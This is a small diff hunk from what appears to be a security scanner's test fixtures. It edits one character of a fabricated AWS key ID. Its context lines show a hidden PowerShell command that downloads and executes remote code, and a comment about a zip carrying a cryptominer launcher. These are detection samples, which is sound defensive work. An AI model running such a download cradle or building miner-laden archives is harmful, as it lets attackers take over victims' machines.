@@ -67,7 +67,7 @@ powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(
 `;
 
 // Random characters in the shape of an AWS key pair (never issued by AWS).
-const AWS_ID = 'AKIA' + 'QX7Z3KD5V2NWT8RB';
+const AWS_ID = 'AKIA' + 'QX7Z3KD5V2NWT6RB';
 const AWS_SECRET = 'q8Vd2Lk7' + 'Zr4Xp1Nm6Tb9Wc3Hs5Jf0Yg2Ke7Qa4Uo';
 
 /** A tiny zip holding one stored member: a jar that carries the miner launcher inside. */
